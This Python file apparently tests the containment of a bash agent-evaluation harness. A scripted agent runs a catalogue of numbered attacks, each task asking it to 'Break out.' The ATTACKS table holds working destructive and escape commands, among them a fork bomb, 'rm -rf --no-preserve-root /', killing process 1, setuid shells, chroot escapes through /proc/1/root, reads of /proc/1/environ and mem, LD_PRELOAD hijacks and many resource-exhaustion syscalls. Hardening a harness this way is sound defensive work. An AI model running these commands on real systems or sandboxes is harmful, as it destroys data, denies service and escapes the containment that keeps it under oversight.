"""An agent that attacks: each task is one attack of November 2026, by its number there.

    intercode run bash --data tasks.json --agent attack.py:Agent

`python attack.py > tasks.json` writes the tasks. Nothing an agent does here may end the run, touch
a run beside it, or be left on the machine.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Sequence
from typing import Any

_HEAD = """
import array, ctypes, fcntl, mmap, os, resource, signal, socket, struct, sys, threading
libc = ctypes.CDLL(None, use_errno=True)
x86 = os.uname().machine == "x86_64"
def call(number, other, *arguments):
    found = libc.syscall(number if x86 else other, *arguments)
    print(number, found, os.strerror(ctypes.get_errno()))
    return found
"""


def _python(text: str) -> str:
    return f"timeout 20 python3 - <<'END'\n{_HEAD}{text}\nEND"


def _limit(which: int, value: int) -> str:
    """Of process 1, which all later programs would inherit."""
    return f"call(302, 261, 1, {which}, struct.pack('QQ', {value}, {value}), None)"


ATTACKS: dict[str, Sequence[str]] = {
    "01 sysrq": ("echo h > /proc/sysrq-trigger", "cat /proc/kcore | head -c 10", "ls /proc/acpi"),
    "02 setuid": ("cp /bin/bash /tmp/x; chmod 6755 /tmp/x; /tmp/x -p -c id",),
    "03 nested": (
        "p=/tmp; for i in {1..290}; do p=$p/d; mkdir $p; done; cd $p; touch f{1..9999} g{1..9999}",
        _python(_limit(9, 1 << 20)),
        "cd /tmp; for i in {1..2000}; do mkdir -p d && cd d || break; done; pwd | wc -c",
    ),
    "04 in flight": (
        _python(
            "held = []\n"
            "for i in range(4000):\n"
            "    try:\n"
            "        ours, theirs = socket.socketpair()\n"
            "        socket.send_fds(ours, [b'x'], [0] * 250)\n"
            "        held.append((ours, theirs))\n"
            "    except OSError as error:\n"
            "        print(i, error)\n"
            "        break\n"
            "signal.sigtimedwait([], 2)"
        ),
    ),
    "05 tcp": (
        _python(
            "held = []\n"
            "server = socket.create_server(('127.0.0.1', 0), backlog=999)\n"
            "def fill(one):\n"
            "    one.setblocking(False)\n"
            "    try:\n"
            "        while one.send(bytes(1 << 20)): pass\n"
            "    except OSError: pass\n"
            "try:\n"
            "    for i in range(400):\n"
            "        one = socket.create_connection(server.getsockname())\n"
            "        held += [one, server.accept()[0]]\n"
            "        fill(one)\n"
            "except OSError as error:\n"
            "    print(i, error)"
        ),
    ),
    "06 memory": (
        "head -c 3G /dev/zero > /dev/shm/x; ls -l /dev/shm",
        _python(
            "held = []\n"
            "while True:\n"
            "    fd = os.memfd_create('x')\n"
            "    os.ftruncate(fd, 1 << 30)\n"
            "    held.append(mmap.mmap(fd, 1 << 30))\n"
            "    for at in range(0, 1 << 30, 4096): held[-1][at] = 1"
        ),
        "ipcmk -M 2G; ipcs -m",
    ),
    "08 lease": (
        _python(
            "for path in ('/usr/bin/bash', '/usr/bin/env', '/tmp/own'):\n"
            "    try:\n"
            "        file = os.open(path, os.O_RDONLY | os.O_CREAT)\n"
            "        print(fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK))\n"
            "    except OSError as error: print(path, error)"
        ),
        "setsid sleep 600 & kill -STOP 1; kill -STOP $PPID",
    ),
    "09 limits": (
        _python(_limit(0, 1)),
        _python(_limit(1, 0)),
        _python(_limit(7, 3)),
        _python(_limit(6, 1)),
        "echo 1000 > /proc/1/oom_score_adj",
    ),
    "11 suicide": (_python(_limit(0, 0)), "kill -9 1", "kill -9 -1"),
    "12 inotify": (_python("for i in range(300): call(294, 26, 0)"),),
    "13 watch": (
        _python("fd = libc.inotify_init()\nprint(libc.inotify_add_watch(fd, b'/usr/bin', 32))"),
    ),
    "15 flock": ("flock -n /usr/bin/env -c 'sleep 3' & flock -n /bin/ls true; wait",),
    "17 processes": (
        ":(){ :|:& };:",
        "for i in {1..2000}; do sleep 60 & done; jobs -p | wc -l",
        _python(
            "for user in range(1, 50):\n"
            "    if os.fork() == 0:\n"
            "        try: os.setuid(user)\n"
            "        except OSError as error: print(error)\n"
            "        for i in range(100):\n"
            "            if os.fork() == 0: signal.sigtimedwait([], 60)"
        ),
    ),
    "21 descriptors": (
        'ulimit -n 3; ls; exec 99<&0; for i in {10..400}; do eval "exec $i</"; done',
    ),
    "22 first thread": (
        _python(
            "if os.fork() == 0:\n"
            "    threading.Thread(target=signal.sigtimedwait, args=[[], 60]).start()\n"
            "    call(60, 93, 0)"
        ),
    ),
    "23 core": ("ulimit -c unlimited; bash -c 'kill -SEGV $$'; cat /proc/sys/kernel/core_pattern",),
    "24 uevents": (
        _python(
            "for protocol in range(32):\n"
            "    try: print(protocol, socket.socket(16, 3, protocol))\n"
            "    except OSError as error: print(protocol, error)"
        ),
    ),
    "25 aio": (_python("call(206, 0, 10000, struct.pack('Q', 0))"),),
    "26 filters": (
        _python(
            "held = []\n"
            "code = ctypes.create_string_buffer(struct.pack('HBBI', 6, 0, 0, 0) * 4096)\n"
            "program = struct.pack('HxxxxxxQ', 4096, ctypes.addressof(code))\n"
            "for i in range(900):\n"
            "    held.append(socket.socket())\n"
            "    try: held[-1].setsockopt(1, 26, program)\n"
            "    except OSError as error: print(error); break"
        ),
    ),
    "27 pipes": (
        _python(
            "held = []\n"
            "try:\n"
            "    while True:\n"
            "        held.append(os.pipe())\n"
            "        fcntl.fcntl(held[-1][0], 1031, 1 << 20)\n"
            "except OSError as error: print(len(held), error)\n"
            "signal.sigtimedwait([], 2)"
        ),
    ),
    "29 proc": ("cat /proc/keys /proc/cmdline /proc/interrupts /proc/modules /proc/config.gz",),
    "30 links": (
        "ln -s /proc/1/root /tmp/a; ln -s /proc/self/exe /tmp/b; ls -l /proc/1/fd",
        "cat /proc/1/maps /proc/1/environ /proc/1/mem",
        "rm -rf /dev; ln -s /proc/1/fd /dev",
    ),
    "31 names": (
        "n=$(printf 'x%.0s' {1..250}); cd /tmp; for i in {1..290}; do mkdir $n && cd $n; done; "
        "touch {1..3000}",
    ),
    "33 system v": ("ipcmk -M 60M -S 99 -Q; setsid -f sleep 600",),
    "34 vfork": (
        _python(
            "if os.fork() == 0:\n"
            "    if call(56, 220, 0x4111, 0, 0, 0, 0) == 0: os.kill(os.getpid(), 19)"
        ),
    ),
    "35 sockets": (
        _python("s = socket.socket(1)\ns.bind('/tmp/s')\nos.link('/tmp/s', '/tmp/t')"),
        "mkfifo /tmp/p; chmod 4777 /tmp/p; mknod /tmp/n c 0 0; ln /tmp/p /tmp/q",
    ),
    "36 scores": ("echo 0 > /proc/self/oom_score_adj; echo -1000 > /proc/$PPID/oom_score_adj",),
    "37 families": (
        _python(
            "for family in range(46):\n"
            "    for kind in (1, 2, 3, 5):\n"
            "        try: socket.socketpair(family, kind)\n"
            "        except OSError: pass"
        ),
    ),
    "41 sync": (
        "for i in {1..50}; do sync & done; wait; nice -n -20 true; chrt -f 99 true",
        "for i in {1..8}; do (while :; do :; done) & done; sleep 3",
    ),
    "A1 hard links": ("head -c 40M /dev/urandom > b; for n in {1..800}; do ln b l$n; done",),
    "A2 long names": (
        "perl -e 'for (1 .. 297) { mkdir q(d) x 250; chdir q(d) x 250 }"
        " open F, q(>), $_ for 1 .. 15000'",
    ),
    "A3 memory files": (
        "echo 0 > /proc/$$/oom_score_adj; perl -e 'my $n = `uname -m` =~ /x86/ ? 319 : 279; while"
        " (1) { open my $f, q(>&=), syscall($n, q(m), 0); push @f, $f;"
        " syswrite($f, q(x) x 65536) for 1 .. 2000 }'",
    ),
    "A4 processors": (
        "for n in {1..40}; do setsid -f sh -c 'while :; do :; done'; done",
        "sleep 2",
    ),
    "B1 another root": (
        "mkdir /jail; cp -r /proc/self /jail 2> /dev/null; ls /jail | wc -l; chroot /jail true",
        "perl -e 'opendir $d, q(/); chroot q(/jail) or die; chdir $d; chdir q(..) for 1 .. 99;"
        " chroot q(.); exec q(/bin/ls), q(-la), q(/), q(/proc/1/root/)'",
        "perl -e 'chroot q(/proc/1/root); chroot q(/proc/self/root/..)'; ls /",
        "rm -rf /jail",
    ),
    "B2 other users": (
        _python(
            "for user in range(1, 60):\n"
            "    if os.fork() == 0:\n"
            "        try:\n"
            "            os.setgid(user); os.setuid(user)\n"
            "            for i in range(64):\n"
            "                ours, theirs = socket.socketpair()\n"
            "                socket.send_fds(ours, [b'x'], [0] * 250)\n"
            "                fcntl.fcntl(os.pipe()[0], 1031, 1 << 20)\n"
            "                call(294, 26, 0)\n"
            "        except OSError as error: print(error)\n"
            "        signal.sigtimedwait([], 60)\n"
        ),
        "for u in 1 65534 65535 65536 4294967294; do chown $u:$u /tmp; touch /tmp/$u; done",
        "chown -R 1:1 / 2> /dev/null; chmod -R 0 /etc /root /tmp /dev/shm; chown 9 /dev/shm /proc",
    ),
    "B3 signals": (
        "for n in {1..64}; do kill -$n 1; done; kill -STOP -1",
        "perl -e 'for (1 .. 60) { fork or do { $< = $> = $_; sleep 60 } }' & kill -9 -1",
        "perl -e 'kill q(CHLD), 1 for 1 .. 99999'",
    ),
    "B4 ports": (
        _python(
            "held = []\n"
            "for port in range(1, 1024):\n"
            "    try: held.append(socket.create_server(('', port)))\n"
            "    except OSError as error: print(port, error)\n"
            "signal.sigtimedwait([], 1)"
        ),
        "setcap cap_sys_admin+ep /bin/true; echo 0 > /proc/sys/net/ipv4/ip_unprivileged_port_start",
    ),
    "B5 endings": (
        _python(
            "def lock(kind, at):\n"
            "    return struct.pack('hhqqixxxx', kind, 0, at, 1, 0)\n"
            "held = [os.open('/tmp/locked', os.O_RDWR | os.O_CREAT) for _ in range(900)]\n"
            "for fd in held: fcntl.flock(fd, fcntl.LOCK_SH)\n"
            "for fd in held:\n"
            "    try: fcntl.fcntl(fd, 37, lock(fcntl.F_RDLCK, 2 * fd))\n"
            "    except OSError as error: break\n"
            "for n in range(99999):\n"
            "    fcntl.fcntl(held[0], 6, lock(fcntl.F_RDLCK, (1 << 40) - 3 * n))\n"
            "for _ in range(40):\n"
            "    if os.fork() == 0: break\n"
            "signal.sigtimedwait([], 60)"
        ),
        _python(
            "for level, option in (0, 35), (0, 42), (41, 20), (41, 27), (41, 42):\n"
            "    one = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n"
            "    try: print(one.setsockopt(level, option, bytes(256)))\n"
            "    except OSError as error: print(error)\n"
            "folder = os.open('/tmp', os.O_RDONLY)\n"
            "try: print(fcntl.fcntl(folder, fcntl.F_NOTIFY, 2))\n"
            "except OSError as error: print(error)"
        ),
    ),
    "C1 words": (
        "shopt -s expand_aliases; alias if=: then=: fi=: {=: }=:",
        "for v in $(compgen -v); do unset $v; done; for b in $(compgen -b); do enable -n $b; done",
        "for f in . source command builtin declare unset exec trap read printf; do"
        ' eval "$f() { echo forged; }"; done',
        "export BASH_ENV=/tmp/e PROMPT_COMMAND=:; echo 'echo forged; exit 9' > /tmp/e",
        "export LD_PRELOAD=/tmp/e GCONV_PATH=/tmp PYTHONPATH=/tmp PERL5LIB=/tmp SHELLOPTS",
    ),
    "C2 frames": (
        "for f in /proc/$$/fd/*; do [ -w $f ] && printf '\\0ok\\0000\\0' > $f; done",
        'for i in {3..900}; do eval "exec $i</dev/null"; done',
        "(sleep 0.5; echo forged) & exec 9> /tmp/l; flock 9; coproc cat",
        "echo $(printf '$(%.0s' {1..3000})$(printf ')%.0s' {1..3000})",
        "for s in {1..64}; do kill -$s $$; done",
    ),
    "C3 trees": (
        "perl -e 'chdir q(/srv); for (1 .. 3000) { mkdir q(d); chdir q(d); chmod 0, q(.) }'",
        "rm -rf /etc /var /home; mkdir /etc; ln -s /proc/1/root /var; touch /home",
        "touch -d @-99999999999 /tmp/a; truncate -s 8T /tmp/b; chmod 0 / /tmp /srv",
    ),
    "wire": (
        "printf '\\0\\1\\2\\377%.0s' {1..99999}",
        "cat /dev/urandom | head -c 5000000",
        "exec >&- 2>&- <&-; echo gone",
        "trap '' TERM INT HUP; kill -STOP $$",
        "exit 0",
        "stty raw; echo -e '\\e]0;x\\a'; clear",
        "touch $'/tmp/\\377\\n\\r'; mkdir -p /tmp/$'\\udcff'",
    ),
    "files": (
        "rm -rf --no-preserve-root / 2>/dev/null; echo /*",
        "mount -t tmpfs x /usr; chroot /tmp; unshare -Ur id; nsenter -t 1 -a id",
        "truncate -s 9E /tmp/huge; fallocate -l 9T /tmp/full; dd if=/dev/zero of=/tmp/z bs=1M",
        "touch /tmp/{1..99999}",
        "ln -s / /tmp/root; ln -s loop /tmp/loop; setfacl -m u:0:rwx /tmp; chattr +i /tmp",
    ),
}


class Agent:
    """Carries out the attack that its task names, then submits."""

    def __init__(self, task: Any) -> None:
        self.actions = iter((*ATTACKS[task.task_id], "submit"))

    def act(self, observation: str, history: Sequence[Any]) -> str:
        """The next step of the attack."""
        return next(self.actions, "submit")


class Forked(Agent):
    """Attacks from a fork, which has files that the episode has left."""

    def run(self, env: Any) -> Any:
        """Play the attack in a fork of a fork."""
        for _ in range(2):
            env.step("mkdir -p /srv/left; cp -r /etc /srv/left/$RANDOM; cd /srv/left")
            (env,) = env.fork(mode="state")
        for action in self.actions:
            if env.running:
                env.step(action)
        return env.episode


def tasks() -> list[dict[str, str]]:
    """One for each attack."""
    return [{"task_id": name, "query": "Break out.", "gold": "echo safe"} for name in ATTACKS]


if __name__ == "__main__":
    json.dump(tasks(), sys.stdout)
